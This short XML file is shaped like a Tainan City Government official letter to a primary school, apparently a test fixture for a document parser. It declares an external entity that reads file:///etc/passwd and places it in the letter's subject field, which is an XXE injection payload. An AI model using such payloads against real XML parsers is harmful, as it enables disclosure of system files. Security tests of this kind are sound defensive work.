<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE 函 SYSTEM "http://127.0.0.1:9/104_2_utf8.dtd" [
<!ENTITY secret SYSTEM "file:///etc/passwd">
]>
<函>
  <發文機關>
    <全銜>臺南市政府</全銜>
    <機關代碼>395000000A</機關代碼>
  </發文機關>
  <函類別 代碼="函"/>
  <主旨>
    <文字>&secret;</文字>
  </主旨>
  <正本><全銜>臺南市立○○國民小學</全銜></正本>
</函>
